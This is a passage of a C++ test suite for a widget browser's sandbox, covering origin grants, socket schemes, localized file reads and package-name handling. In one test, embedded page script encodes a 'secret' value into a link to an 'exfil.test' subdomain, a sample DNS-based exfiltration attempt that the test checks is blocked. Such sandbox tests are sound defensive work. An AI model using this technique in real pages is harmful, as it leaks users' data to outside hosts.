      "  link.href = 'https://' + rel + '-script-' + btoa('secret')"
      "    .replace(/=/g, '') + '.exfil.test/';"
      "  document.head.appendChild(link); }"
      "finish({"
      "  granted: tryFetch('http://granted-name.test:8081/data.txt'),"
      "  hinted: new Promise(r => setTimeout(() => r('waited'), 1500)),"
      "});";
  installWithEngine(widgetPackage(
      "hinter", "  <access origin=\"http://granted-name.test:8081\"/>\n",
      {{"index.html", page(script, hints)}}));
  Browse run = browse({"--exit-after-load", "widget://hinter/index.html"},
                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  EXPECT_EQ("waited", results(run).value("hinted", "")) << text(run);
  EXPECT_EQ(0, listener.connections()) << run.err;
  bool grantedLookedUp = false;
  for (const std::string& name : resolver.names()) {
    EXPECT_EQ(std::string::npos, name.find("exfil")) << name;
    if (name == "granted-name.test") grantedLookedUp = true;
  }
  EXPECT_TRUE(grantedLookedUp) << run.err;
}

// A grant of http://h:p opens ws://h:p and no wss://h:p; one of
// https://h:p opens wss://h:p and no ws://h:p.
TEST_F(WidgetBrowserTest, SocketsOpenOnlyTheSchemeGranted) {
  Listener plain;   // granted as http
  Listener secure;  // granted as https
  const std::string script =
      "finish({"
      "  wssOnHttp: trySocket('wss://" + plain.hostPort() + "/s'),"
      "  httpsOnHttp: tryFetch('https://" + plain.hostPort() + "/f'),"
      "  wsOnHttps: trySocket('ws://" + secure.hostPort() + "/s'),"
      "  httpOnHttps: tryFetch('http://" + secure.hostPort() + "/f'),"
      "});";
  installWithEngine(widgetPackage(
      "schemes",
      "  <access origin=\"http://" + plain.hostPort() + "\"/>\n"
      "  <access origin=\"https://" + secure.hostPort() + "\"/>\n",
      {{"index.html", page(script)}}));
  Browse run = browse({"--exit-after-load", "widget://schemes/index.html"},
                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  const nlohmann::json found = results(run);
  ASSERT_EQ(4u, found.size()) << text(run);
  for (const auto& entry : found.items())
    EXPECT_EQ("blocked", entry.value().get<std::string>()) << entry.key();
  EXPECT_EQ(0, plain.connections()) << run.err;
  EXPECT_EQ(0, secure.connections()) << run.err;
}

TEST_F(WidgetBrowserTest, WidgetReadsItsOwnFilesInTheReadersLanguage) {
  const std::string script =
      "finish({"
      "  fetch: tryFetch('data.txt'),"
      "  xhr: asyncXhr('data.txt'),"
      "  sync: syncXhr('data.txt'),"
      "  json: fetch('data.json').then(r => r.json()).then(j => 'ok: ' + j.word,"
      "                                                  () => 'failed'),"
      "  type: fetch('data.json').then(r => r.headers.get('Content-Type'),"
      "                                () => 'failed'),"
      "  nested: tryFetch('sub/deep.txt'),"
      "  absolute: tryFetch('/data.txt'),"
      "  missing: tryFetch('missing.txt'),"
      "});";
  installWithEngine(widgetPackage(
      "own", "",
      {{"index.html", page(script)},
       {"data.txt", "default data"},
       {"data.json", "{\"word\": \"default\"}"},
       {"sub/deep.txt", "default deep"},
       {"locales/fr/data.txt", "données"},
       {"locales/fr/data.json", "{\"word\": \"français\"}"},
       {"locales/fr/sub/deep.txt", "profond"}}));
  Browse run = browse({"--lang", "fr", "--exit-after-load",
                       "file://" + root + "widget_own/index.html"},
                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  EXPECT_EQ("widget://own/index.html", url(run));
  const nlohmann::json found = results(run);
  EXPECT_EQ("ok: données", found.value("fetch", "")) << text(run);
  EXPECT_EQ("ok: données", found.value("xhr", "")) << text(run);
  EXPECT_EQ("LEAKED: données", found.value("sync", "")) << text(run);
  EXPECT_EQ("ok: français", found.value("json", "")) << text(run);
  EXPECT_EQ("application/json", found.value("type", "")) << text(run);
  EXPECT_EQ("ok: profond", found.value("nested", "")) << text(run);
  EXPECT_EQ("ok: données", found.value("absolute", "")) << text(run);
  EXPECT_EQ("blocked", found.value("missing", "")) << text(run);
}

// The package's own name holds a blank: the engine is handed it escaped,
// and a widget name holding "%" would give a launch address that the
// browser reads as another folder, so the engine refuses it and says why.
TEST_F(WidgetBrowserTest, PackageNameWithABlankIsRefusedWithAReason) {
  const std::string package = dir.file("my clock.wgt");
  TempDir::writeFile(package, TempDir::readFile(samplePackage()));
  Browse run = browse({"--lang", "fr", "--exit-after-load", package});
  EXPECT_TRUE(run.exited);
  EXPECT_EQ(1, run.status) << run.out << run.err;
  EXPECT_NE(std::string::npos,
            (run.out + run.err).find("file:// address cannot carry"))
      << run.out << run.err;
  EXPECT_FALSE(TempDir::exists(root + "widget_my%20clock"));
}

TEST_F(WidgetBrowserTest, PlainPathWithBlanksAndPercentSigns) {
  const std::string folder = dir.file("my pkgs 100%");
  ASSERT_EQ(0, mkdir(folder.c_str(), 0755));
  const std::string package = folder + "/sample-clock.wgt";
  TempDir::writeFile(package, TempDir::readFile(samplePackage()));
  Browse run = browse({"--lang", "fr", "--exit-after-load", package});
  ASSERT_EQ(0, run.status) << run.out << run.err;
  EXPECT_EQ("widget://sample-clock/locales/fr/index.html", url(run));
  EXPECT_EQ(kFrenchColour, colour(run));
}

TEST(WidgetBrowserManualPage, NamesEveryOptionExitCodeVariableAndFile) {
  const std::string path = WIDGETENGINE_SOURCE_DIR "/host/widget-browser.1";
  const std::string page = TempDir::readFile(path);
  ASSERT_FALSE(page.empty());
  // The options the program itself lists.
  ChildProcess browser;
  browser.mergeOutput();
  ASSERT_TRUE(browser.start({kBrowser, "--help"}));
  browser.wait();
  EXPECT_TRUE(browser.exitedWith(0));
  const std::string help = browser.out();
  for (const char* option :
       {"--lang", "--screenshot", "--exit-after-load", "--size", "--help"}) {
    EXPECT_NE(std::string::npos, help.find(option)) << option;
    EXPECT_NE(std::string::npos, page.find(roffDashes(option))) << option;
  }
  for (const char* code : {".B 0\n", ".B 1\n", ".B 2\n"})
    EXPECT_NE(std::string::npos, page.find(code)) << code;
  EXPECT_EQ(std::vector<std::string>(), missingEngineEntries(page));
  EXPECT_NE(std::string::npos, page.find(".B WIDGET_BROWSER_EXTENSION_DIR\n"));
  EXPECT_EQ("", manualWarnings(path));
}

}  // namespace
